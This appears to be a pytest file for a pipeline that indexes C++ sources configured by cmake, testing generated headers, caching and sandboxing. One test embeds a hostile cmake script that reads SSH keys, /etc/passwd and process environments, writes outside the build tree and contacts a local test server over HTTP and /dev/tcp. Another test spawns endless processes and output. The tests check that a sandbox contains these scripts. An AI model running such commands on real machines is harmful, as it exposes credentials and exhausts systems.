"""Sources that cmake configures: generated files are compiled with, cached, and kept apart from those of the source."""

import json
import re
import socket
import sys
from pathlib import Path

import pytest

from pipeline.lexing.languages import LANGUAGES, Language
from pipeline.pins.build_block import BuildBlock
from pipeline.stages.enrich.compiler.compiler_index import CompilerIndex, IndexRequest, index_source
from pipeline.stages.enrich.compiler.tools import tool_versions
from pipeline.stages.enrich.params import CompilerParams

pytestmark = pytest.mark.usefixtures("sandbox")
ENVIRONMENT = {
    *("HOME", "LC_ALL", "PATH", "SOURCE_DATE_EPOCH", "TMPDIR", "TZ", "XDG_CACHE_HOME", "PWD", "OLDPWD", "SHLVL", "_"),
    *("ZIG_GLOBAL_CACHE_DIR", "ZIG_LOCAL_CACHE_DIR"),
    *("CC", "CXX", "LANG", "LC_MESSAGES"),  # set by cmake
}
BEGIN = "cmake_minimum_required(VERSION 3.20)\nproject(made CXX)\n"
UNIT = b'#include "made.h"\nint a = MADE + GIVEN;\n'


def index_of(
    script: str, cache: Path | None = None, texts: dict[str, bytes] | None = None, **others: str
) -> CompilerIndex:
    texts = texts or {"src/a.cpp": UNIT}
    files = {"CMakeLists.txt": (BEGIN + script).encode(), **{name: text.encode() for name, text in others.items()}}
    block = BuildBlock(cmake=True, options=("-DWANTED=3",))
    how = (block, CompilerParams(), tool_versions(cmake=True), cache)
    return index_source(IndexRequest("made", {**files, **texts}, texts, *how))


def test_a_configured_source_is_compiled_with_the_generated_files() -> None:
    index = index_of(
        'file(WRITE "${CMAKE_BINARY_DIR}/made.h" "#define MADE 1\\n")\nadd_library(made src/a.cpp)\n'
        "target_include_directories(made PRIVATE ${CMAKE_BINARY_DIR})\ntarget_compile_definitions(made PRIVATE GIVEN=${WANTED})\n"
    )

    assert (index.file("src/a.cpp").is_indexed, index.file("src/a.cpp").detail, index.notes) == (True, "", [])
    assert json.loads(index.file("src/a.cpp").context or "") == {
        "compiler": "clang",
        "defines": ["GIVEN=3"],
        "generated": ["<build>/made.h"],
        "include_roots": ["<build>"],
        "unit": "src/a.cpp",
    }
    assert index.counts["num_local_paths_in_context"] == 0


ABSOLUTE = """
file(WRITE "${CMAKE_BINARY_DIR}/gen/inner.h" "#include \\"${CMAKE_SOURCE_DIR}/src/own.h\\"\\n#define MADE OWN\\n")
file(WRITE "${CMAKE_BINARY_DIR}/gen/made.h" "#include \\"${CMAKE_BINARY_DIR}/gen/inner.h\\"\\n")
file(WRITE "${CMAKE_SOURCE_DIR}/src/beside.h" "#define GIVEN 2\\n")
file(WRITE "${CMAKE_SOURCE_DIR}/src/a.cpp" "// moved by what configuring writes\\nint b;\\n")
add_library(made src/a.cpp)
target_include_directories(made PRIVATE ${CMAKE_BINARY_DIR}/gen)
target_compile_options(made PRIVATE -include ${CMAKE_SOURCE_DIR}/src/beside.h)
"""


def test_generated_files_are_found_by_absolute_path_and_beside_the_source_and_change_no_document(
    tmp_path: Path,
) -> None:
    texts = {"src/a.cpp": UNIT.replace(b"GIVEN", b"(GIVEN)"), "src/own.h": b"#define OWN 7\nint own();\n"}
    texts["src/a.cpp"] += b'#include "/tmp/sluice/build/gen/inner.h"\n'
    indexes = [index_of(ABSOLUTE, tmp_path, texts) for _ in range(2)]

    (file, own), context = map(indexes[0].file, texts), json.loads(indexes[0].file("src/a.cpp").context or "")
    assert (file.detail, own.detail, indexes[0].counts["num_missing_includes"]) == ("", "", 0)
    assert [texts["src/a.cpp"][start:end] for start, end, *_ in file.mentions] == [b"a"]
    assert context["generated"] == ["<build>/gen/inner.h", "<build>/gen/made.h", "src/beside.h"]
    assert indexes[0].counts["num_local_paths_in_context"] == 0
    assert indexes[0].files == indexes[1].files  # from the cache too


def test_a_failed_configure_is_reported_and_fails_the_index_alone() -> None:
    index = index_of("add_subdirectory(examples)\n")

    assert index.file("src/a.cpp").detail == "tool_failed: failed"
    assert "examples" in index.notes[0]
    assert "/tmp" not in index.notes[0]


def test_a_configured_source_is_cached_until_one_of_its_files_changes(tmp_path: Path) -> None:
    cache = tmp_path / "units"
    script = (
        'string(RANDOM LENGTH 20 drawn)\nfile(WRITE "${CMAKE_BINARY_DIR}/made.h" "#define MADE 1 // ${drawn}\\n")\n'
        "add_library(made src/a.cpp)\ntarget_include_directories(made PRIVATE ${CMAKE_BINARY_DIR})\n"
        "target_compile_definitions(made PRIVATE GIVEN=${drawn}=${CMAKE_SOURCE_DIR})\n"
    )
    first = index_of(script, cache)

    assert index_of(script, cache).files == first.files  # what cmake drew at random stayed
    assert index_of(script, cache, other="x").files != first.files
    assert "=source" in (first.file("src/a.cpp").context or "")
    assert not any(sys.prefix.encode() in entry.read_bytes() for entry in cache.iterdir())
    for entry in cache.glob("*.configured"):
        entry.write_bytes(entry.read_bytes().replace(b"MADE 1", b"MADE 2"))
    assert index_of(script, cache).files != first.files  # a damaged entry is ignored


def test_a_generated_header_of_a_registered_language_is_not_a_file_of_cmake() -> None:
    script = (
        'file(WRITE "${CMAKE_BINARY_DIR}/CMakeFiles/made.ccxh" "#define MADE 1\\n")\nadd_library(made src/a.cpp)\n'
        "target_include_directories(made PRIVATE ${CMAKE_BINARY_DIR}/CMakeFiles)\n"
    )
    texts = {"src/a.cpp": b'#include "made.ccxh"\nint a = MADE;\n'}

    assert index_of(script, None, texts).counts["num_missing_includes"] == 1
    with LANGUAGES.registered(Language("ccx", frozenset({".ccxh"}), one_of=("cpp",))):
        assert index_of(script, None, texts).file("src/a.cpp").detail == ""


def test_a_hostile_script_gets_nothing_and_what_it_does_is_gone(tmp_path: Path) -> None:
    """It writes all that it can read into a header that is compiled."""
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    home, outside = Path.home(), tmp_path / "outside"
    script = f"""
execute_process(COMMAND sh -c "cat {home}/.ssh/* {home}/.*rc /etc/passwd ~/.ssh/*" OUTPUT_VARIABLE keys ERROR_QUIET)
execute_process(COMMAND sh -c "env; cat /proc/*/environ" OUTPUT_VARIABLE environment ERROR_QUIET)
execute_process(COMMAND sh -c "echo x > {outside}; echo x > {home}/x; echo x > /usr/x; umount /tmp; unshare -rm true && echo held"
  OUTPUT_VARIABLE held ERROR_QUIET)
file(DOWNLOAD "http://127.0.0.1:{server.getsockname()[1]}/x" "${{CMAKE_BINARY_DIR}}/x.h" TIMEOUT 5 STATUS status)
execute_process(COMMAND sh -c "exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]} && echo held" OUTPUT_VARIABLE more ERROR_QUIET)
cmake_host_system_information(RESULT host QUERY HOSTNAME)
list(GET status 0 code)
file(WRITE "${{CMAKE_BINARY_DIR}}/made.h" "/* [${{keys}}] [${{held}}${{more}}] [${{host}}] */\\nint status_${{code}};\\n")
file(APPEND "${{CMAKE_BINARY_DIR}}/made.h" "#define MADE 1\\n")
file(WRITE "${{CMAKE_BINARY_DIR}}/environment.h" "/* ${{environment}} */")
add_library(made src/a.cpp)
target_include_directories(made PRIVATE ${{CMAKE_BINARY_DIR}})
target_compile_definitions(made PRIVATE GIVEN=1 SEEN="${{keys}}${{held}}${{more}}" HOST="${{host}}")
"""
    index = index_of(script, tmp_path / "cache")
    with pytest.raises(BlockingIOError):
        server.accept()
    server.close()

    (entry,) = (tmp_path / "cache").glob("*.configured")
    made = json.loads(entry.read_text())["files"]
    assert index.file("src/a.cpp").is_indexed
    assert made["build/made.h"].splitlines()[0] == "/* [] [] [sluice] */"
    assert "status_0;" not in made["build/made.h"]
    assert set(re.findall(r"^\W*(\w+)=", made["build/environment.h"], re.MULTILINE)) <= ENVIRONMENT
    assert not outside.exists()
    assert not Path(home, "x").exists()


@pytest.mark.parametrize(
    ("script", "failure"),
    [
        # Its processes stay, so that they are seen also where the machine refuses more and cmake goes on to its end.
        ('execute_process(COMMAND sh -c "while true; do sleep 60 & done")\n', "too_many_processes"),
        (
            'execute_process(COMMAND sh -c "while true; do echo endless endless endless endless; done")\n',
            "endless_output",
        ),
        ('execute_process(COMMAND truncate -s 3G "${CMAKE_BINARY_DIR}/x" COMMAND_ERROR_IS_FATAL ANY)\n', "failed"),
    ],
)
def test_a_script_without_end_fails_its_index_and_is_reported(script: str, failure: str) -> None:
    index = index_of(script)

    assert index.file("src/a.cpp").detail == f"tool_failed: {failure}"
    assert f"({failure})" in index.notes[0]
    assert index.counts[f"num_compilations_failed_{failure}"] == 1
